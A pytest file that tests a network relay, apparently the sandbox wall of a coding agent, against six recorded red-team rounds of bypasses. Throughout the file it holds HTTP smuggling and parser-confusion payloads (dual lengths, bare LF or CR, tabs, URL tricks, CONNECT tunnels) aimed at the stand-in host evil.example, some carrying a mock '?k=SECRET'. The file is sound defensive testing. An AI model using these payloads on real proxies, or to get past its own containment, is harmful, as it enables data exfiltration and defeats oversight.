"""The wall and an allowed name that is an HTTP proxy (or any far end that reads HTTP): the far
end never hears a request for another host. Six red-team rounds each found bytes the relay and
a far-end reader read differently; each case below made the proxy hear ``evil.example`` on the
code of its round. Since plain HTTP is terminated (the far end reads only the request the relay
composes, one a connection, ``Connection: close``), each is refused, or harmless where the
relay now reads it one way and composes only that (said in the case).

The proxy only records what it is asked and answers every read with a small 200.
"""

from __future__ import annotations

import functools
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import urlsplit

import pytest

from cursor_agent_action.agent.contain.box.net.policy import build_policy
from tests.support.loopback import serving
from tests.support.netbox import PREFIX, Emit, connect_by_name, fixed_resolver, run_boxed, servers

pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
                                reason="network namespaces: root on Linux (CI here is root)")
PROXY = f"{PREFIX}proxy.example"
HOST = PROXY.encode()


def recording_proxy(conn: socket.socket, server: Any) -> None:
    conn.settimeout(5)
    while True:
        try:
            data = conn.recv(65536)
        except OSError:
            return
        if not data:
            return
        server.record(data)
        status = b"407 Proxy Authentication Required" if b"CONNECT" in data else b"200 OK"
        conn.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Length: 2\r\n\r\nok")


def answering(answer: bytes, *, echo: bool = False) -> Callable[[socket.socket, Any], None]:
    """A far end that reads one head, sends ``answer``, then records (and echoes) the rest."""
    def serve(conn: socket.socket, server: Any) -> None:
        head = b""
        while b"\r\n\r\n" not in head:
            head += conn.recv(65536)
        server.record(head)
        conn.sendall(answer)
        while data := conn.recv(65536):
            server.record(data)
            if echo:
                conn.sendall(data)
    return serve


def send_flights(port: int, flights: list[bytes]) -> Any:
    def client(emit: Emit) -> Any:
        answers = []
        with connect_by_name(PROXY, port) as sock:
            sock.settimeout(3)
            for flight in flights:
                try:
                    sock.sendall(flight)
                    time.sleep(0.2)
                    answers.append(sock.recv(200).decode("latin-1"))
                except OSError as exc:
                    answers.append(f"error {exc}")
        return answers
    return client


GET_PROXY = b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"
CONNECT_EVIL = b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"
ATTACKS = {
    "keep-alive, then CONNECT": [GET_PROXY, CONNECT_EVIL],
    "keep-alive, then an absolute URL": [
        GET_PROXY, b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
    "two requests in one write": [GET_PROXY + CONNECT_EVIL],
    "after an empty line": [b"\r\n" + CONNECT_EVIL],
    "a method the check did not list": [
        b"PROPFIND http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
    "inside a chunked body's end": [
        b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"3\r\nabc\r\n0\r\n\r\n" + CONNECT_EVIL],
    "after a refused CONNECT, another": [
        b"CONNECT api2.cursor.sh:443 HTTP/1.1\r\nHost: api2.cursor.sh:443\r\n\r\n",
        CONNECT_EVIL],
    "a bare LF that a lenient proxy reads as a line end": [
        b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nX: a\nCONNECT evil.example:443 HTTP/1.1"
        b"\r\n\r\n"],
    "both lengths (smuggling)": [
        b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 4\r\nTransfer-Encoding: "
        b"chunked\r\n\r\n0\r\n\r\n" + CONNECT_EVIL],
}


NEVER_READ = {"inside a chunked body's end", "both lengths (smuggling)", "keep-alive, then CONNECT",
              "keep-alive, then an absolute URL", "two requests in one write"}
"""Harmless now, not refused: the relay answers one request a connection (``Connection:
close``) and never reads what follows it (h11 frames the first request's body)."""


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
    with servers(recording_proxy) as (proxy,):
        policy = build_policy([f"{PROXY}:{proxy.port}", f"{PROXY}:443"])
        run = run_boxed(policy, send_flights(proxy.port, ATTACKS[case]),
                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
        heard = bytes(proxy.received)
    assert b"evil.example" not in heard, heard
    if case in NEVER_READ:
        return
    refused = run.refused("sni-mismatch")
    assert refused, run.report
    assert refused[0].destination == PROXY


@pytest.mark.parametrize("flights", [
    [b"PROPFIND", b" http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
    [b"\r", b"\n", b"CONNECT evil.example:443 HTTP/1.1", b"\r\n\r\n"],
    [b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n", b"X: y\r\n\r\n", CONNECT_EVIL[:9],
     CONNECT_EVIL[9:]],
])
def test_a_request_sent_a_piece_at_a_time_is_checked_before_its_line_ends(
    flights: list[bytes],
) -> None:
    """A first line is read to its end before any of it goes on; plain HTTP is then read
    with h11, the far end hears only the relay's request."""
    with servers(recording_proxy) as (proxy,):
        policy = build_policy([f"{PROXY}:{proxy.port}"])
        run = run_boxed(policy, send_flights(proxy.port, flights),
                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
        heard = bytes(proxy.received)
    assert b"evil.example" not in heard, heard
    if flights[0].startswith(b"GET / "):
        return  # harmless: the CONNECT after the first request is never read
    assert run.refused("sni-mismatch"), run.report


def test_requests_for_the_allowed_name_pass_each_composed_anew() -> None:
    """A body by length, a chunked one (its trailer dropped): the far end reads the relay's
    request with the same method, target and body, ``Connection: close``."""
    body = b"POST /up HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 5\r\n\r\nhello"
    chunked = (b"POST /c HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
               b"5;x=y\r\nhello\r\n0\r\nTrailer: t\r\n\r\n")

    def client(emit: Emit) -> Any:
        answers = []
        for request in (GET_PROXY, body, chunked):
            with connect_by_name(PROXY, proxy.port) as sock:
                sock.settimeout(3)
                sock.sendall(request)
                answer = b""
                while chunk := sock.recv(65536):
                    answer += chunk
                answers.append(answer.decode("latin-1"))
        return answers

    with servers(recording_proxy) as (proxy,):
        policy = build_policy([f"{PROXY}:{proxy.port}"])
        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
        heard = bytes(proxy.received).lower()
    assert [a.split("\r\n")[0] for a in run.result] == ["HTTP/1.1 200 OK"] * 3
    assert all(a.endswith("\r\n\r\nok") for a in run.result)
    assert heard.count(b"connection: close") == 3
    assert b"post /up http/1.1\r\n" in heard
    assert b"post /c http/1.1\r\n" in heard
    assert heard.count(b"hello") == 2
    assert b"trailer" not in heard
    assert run.report.refused == ()


def test_a_connect_and_a_plain_http_upgrade_are_refused_and_reported() -> None:
    """Nothing in the box is a proxy, and a plain-HTTP upgrade (but h2c's, which is left out:
    the answer is HTTP/1.1's) would hand the far end's reader the agent's bytes again (a
    fourth red-team round: a tunnel to an allowed port 80 fronted any host): both are
    refused before the far end hears them (``wss://`` is TLS)."""
    websocket = (b"GET /ws HTTP/1.1\r\nHost: " + HOST + b"\r\nConnection: Upgrade\r\n"
                 b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    tunnel = b"CONNECT plain.example:80 HTTP/1.1\r\nHost: plain.example:80\r\n\r\n"

    def client(emit: Emit) -> Any:
        answers = []
        for request in (websocket, tunnel):
            with connect_by_name(PROXY, proxy.port) as sock:
                sock.settimeout(3)
                sock.sendall(request)
                try:
                    answers.append(sock.recv(200).decode("latin-1"))
                except ConnectionResetError:
                    answers.append("")
        return answers

    with servers(answering(b"HTTP/1.1 101 Switching Protocols\r\n\r\n", echo=True)) as (
            proxy,):
        policy = build_policy([f"{PROXY}:{proxy.port}", "plain.example:80"])
        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
    assert run.result == ["", ""]
    assert bytes(proxy.received) == b""
    [refused] = run.refused("sni-mismatch")  # the first detail of the destination's two
    assert refused.first == ("an HTTP request refused (a protocol upgrade on plain HTTP "
                             "(use TLS: wss://, https://))")
    assert refused.count == 2


# -- against a real HTTP reader: Python's http.server as a forward proxy is written with it ----

class _ReadingProxy(BaseHTTPRequestHandler):
    """Reads requests as Python's http.server does (any white space between the parts) and
    URLs as urllib does; records the host it would connect to, connects nowhere."""

    protocol_version = "HTTP/1.1"
    heard: ClassVar[list[str]] = []
    tunnel_reads_http: ClassVar[bool] = False

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _answer(self, host: str | None) -> None:
        self.heard.append(str(host))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def do_GET(self) -> None:
        self._answer(urlsplit(self.path).hostname or self.headers.get("Host"))

    def do_POST(self) -> None:  # its body unread, as a far end that ignores one
        self.do_GET()

    def do_CONNECT(self) -> None:
        self._answer(self.path.rpartition(":")[0])
        if self.tunnel_reads_http:  # a tunnel to itself: its own reader hears what follows
            self.handle_one_request()


READER_CASES = {
    "a ? before a user part": b"GET http://evil.example?@" + HOST + b"/ HTTP/1.1\r\nHost: "
                              + HOST + b"\r\n\r\n",
    "a # before a user part": b"GET http://evil.example#@" + HOST + b"/ HTTP/1.1\r\nHost: "
                              + HOST + b"\r\n\r\n",
    "tabs between the parts": b"GET\thttp://evil.example/\tHTTP/1.1\r\nHost: evil.example"
                              b"\r\n\r\n",
    "a space first": b" GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "CONNECT with tabs": b"CONNECT\tevil.example:443\tHTTP/1.1\r\n\r\n",
    "vertical tabs": b"GET\x0bhttp://evil.example/\x0bHTTP/1.1\r\n\r\n",
    "tabs, then a plain second request": b"GET\thttp://" + HOST + b"/\tHTTP/1.1\r\nHost: " + HOST
    + b"\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
}


@pytest.mark.parametrize("case", sorted(READER_CASES))
def test_a_real_http_reader_behind_the_wall_never_reads_a_request_for_another_name(
    case: str,
) -> None:
    """A second red-team round got these past the first fix: the relay read one host or no
    request at all, Python's reader (and urllib) another. Each made the proxy hear
    evil.example before this fix."""
    _ReadingProxy.heard = []
    with serving(_ReadingProxy) as server:
        policy = build_policy([f"{PROXY}:{server.port}", f"{PROXY}:443"])
        run_boxed(policy, send_flights(server.port, [READER_CASES[case]]),
                  resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
    assert not any("evil.example" in host for host in _ReadingProxy.heard), _ReadingProxy.heard


def test_another_port_of_the_proxys_own_host_must_be_allowed_too() -> None:
    with servers(recording_proxy) as (proxy,):
        policy = build_policy([f"{PROXY}:{proxy.port}"])
        run = run_boxed(policy, send_flights(proxy.port, [
            b"CONNECT " + HOST + b":2222 HTTP/1.1\r\nHost: " + HOST + b":2222\r\n\r\n"]),
                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.2)
        heard = bytes(proxy.received)
    assert b"2222" not in heard
    assert "a CONNECT" in run.refused("sni-mismatch")[0].first


# -- a third red-team round, against the same reader (and node's, where it is installed) -------

def _through_reader(flights: list[bytes], *, close_after: bool = False,
                    keep_reading_after_connect: bool = False) -> tuple[list[str], Any]:
    """``flights`` sent one by one to a reading proxy behind the wall; what it heard."""
    _ReadingProxy.heard = []
    _ReadingProxy.tunnel_reads_http = keep_reading_after_connect

    def client(port: int, emit: Emit) -> Any:
        answers = []
        with connect_by_name(PROXY, port) as sock:
            sock.settimeout(2)
            for flight in flights:
                sock.sendall(flight.replace(b"PORT", str(port).encode()))
                time.sleep(0.2)
            if close_after:
                sock.shutdown(socket.SHUT_WR)
            try:
                answers.append(sock.recv(500).decode("latin-1"))
            except OSError as exc:
                answers.append(f"error {exc}")
        return answers

    with serving(_ReadingProxy) as server:
        run = run_boxed(build_policy([f"{PROXY}:{server.port}", f"{PROXY}:443"]),
                        functools.partial(client, server.port),
                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
        time.sleep(0.3)
    return list(_ReadingProxy.heard), run


@pytest.mark.parametrize("line", [
    b"GET http://evil.example/?k=SECRET HTTP/1.1", b"CONNECT evil.example:443 HTTP/1.1",
    b"GET http://evil.example/?k=SECRET",
])
def test_a_first_line_the_connections_end_cuts_short_never_reaches_the_reader(
    line: bytes,
) -> None:
    """Python's reader acts on a line that the end of the stream ends: a first line starting
    with a method is held back whole until its line end."""
    heard, run = _through_reader([line], close_after=True)
    assert not any("evil.example" in host for host in heard), heard
    assert run.refused("sni-mismatch"), run.report


def test_a_refused_line_end_resets_the_far_end_instead_of_ending_the_stream() -> None:
    heard, _ = _through_reader([b"GET http://evil.example/?k=SECRET HTTP/1.1", b"\r", b"X"])
    assert not any("evil.example" in host for host in heard), heard


def test_a_body_the_reader_does_not_read_is_never_taken_for_the_next_request() -> None:
    """Harmless now (it was refused): the relay's request says ``Connection: close``, so a far
    end that does not read a GET's body closes instead of reading a request in it (also the
    case docs/network.md listed as left, for a POST)."""
    smuggled = b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    for method in (b"GET", b"POST"):
        heard, _ = _through_reader([method + b" / HTTP/1.1\r\nHost: " + HOST
                                    + b"\r\nContent-Length: " + str(len(smuggled)).encode()
                                    + b"\r\n\r\n" + smuggled])
        assert heard == [PROXY], heard


def test_a_connect_to_the_proxy_itself_is_refused() -> None:
    """A tunnel to the proxy's own port reaches its reader unchecked: refused."""
    heard, run = _through_reader(
        [b"CONNECT " + HOST + b":PORT HTTP/1.1\r\nHost: " + HOST + b":PORT\r\n\r\n",
         b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
        keep_reading_after_connect=True)
    assert heard == []
    assert "a CONNECT" in run.refused("sni-mismatch")[0].first


def test_a_byte_over_0x7f_in_a_target_is_refused_and_reported() -> None:
    heard, run = _through_reader([b"GET http://evil.example/\x80 HTTP/1.1\r\n\r\n"])
    assert heard == []
    assert run.refused("sni-mismatch"), run.report


NODE_PROXY = """
const http = require('http');
const server = http.createServer((req, res) => {
  let host = 'none';
  try { host = new URL(req.url, 'http://' + req.headers.host).hostname; } catch (e) {}
  console.log('heard ' + host);
  res.writeHead(200, {'Content-Length': 2}); res.end('ok');
});
server.listen(0, '127.0.0.1', () => console.log('port ' + server.address().port));
setTimeout(() => process.exit(0), 30000);
"""


def _through_node(flights: list[bytes], tmp_path: Path) -> tuple[str, Any]:
    """``flights`` sent one by one to a node reading proxy behind the wall; what it printed."""
    script = tmp_path / "proxy.js"
    script.write_text(NODE_PROXY)
    node = subprocess.Popen(["node", str(script)], stdout=subprocess.PIPE, text=True)
    try:
        assert node.stdout is not None
        port = int(node.stdout.readline().split()[1])

        def client(emit: Emit) -> Any:
            with connect_by_name(PROXY, port) as sock:
                sock.settimeout(2)
                for flight in flights:
                    sock.sendall(flight)
                    time.sleep(0.2)
                try:
                    return sock.recv(200).decode("latin-1")
                except OSError as exc:
                    return f"error {exc}"

        run = run_boxed(build_policy([f"{PROXY}:{port}"]), client,
                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
    finally:
        node.kill()
        out, _ = node.communicate(timeout=10)
    return out, run


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
@pytest.mark.parametrize("flights", [
    # WHATWG's URL reader (node's) takes //host and /\host for a URL with a host
    [b"GET //evil.example/?k=SECRET HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"],
    [b"GET /\\evil.example/?k=SECRET HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"],
    # a sixth round: node's reader takes RTSP's methods and versions for HTTP's
    [b"DESCRIBE /?k=SECRET\r\nHost: evil.example\r\n\r\n"],
    [b"PLAY / RTSP/1.0\r\nHost: " + HOST + b"\r\nConnection: keep-alive\r\n\r\n",
     b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
])
def test_node_never_reads_a_request_for_another_host(flights: list[bytes],
                                                     tmp_path: Path) -> None:
    out, run = _through_node(flights, tmp_path)
    assert "evil.example" not in out, out
    assert run.refused("sni-mismatch"), run.report


@pytest.mark.parametrize("flights", [
    [b" \rGET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
    [b" ", b"\r", b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
    [b"\x1c", b"\r", b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"],
    [b" \rGET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n", CONNECT_EVIL],
])
def test_white_space_and_a_lone_cr_never_make_the_rest_unchecked(flights: list[bytes]) -> None:
    """A fifth red-team round: a first line of white space ending in a lone CR was "another
    protocol" to the relay and a request to Python's reader (a CR is a blank to it)."""
    heard, _ = _through_reader(flights)
    assert not any("evil.example" in host for host in heard), heard


def test_an_answer_before_the_body_ends_reaches_the_agent_at_once() -> None:
    """A far end that answers (413) without reading a large body: the answer comes back and
    the connection ends, the relay does not wait for the rest of the body."""
    too_large = answering(b"HTTP/1.1 413 Content Too Large\r\nContent-Length: 3\r\n\r\nbig")
    with servers(too_large) as (web,):
        policy = build_policy([f"{PROXY}:{web.port}"])

        def client(emit: Emit) -> Any:
            with connect_by_name(PROXY, web.port) as sock:
                sock.settimeout(5)
                sock.sendall(b"POST /up HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: "
                             b"1000000\r\n\r\n" + b"x" * 1000)
                started = time.monotonic()
                answer = b""
                while chunk := sock.recv(65536):
                    answer += chunk
                return [answer.decode("latin-1"), time.monotonic() - started]

        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
    answer, waited = run.result
    assert answer.startswith("HTTP/1.1 413")
    assert answer.endswith("\r\n\r\nbig")
    assert waited < 3
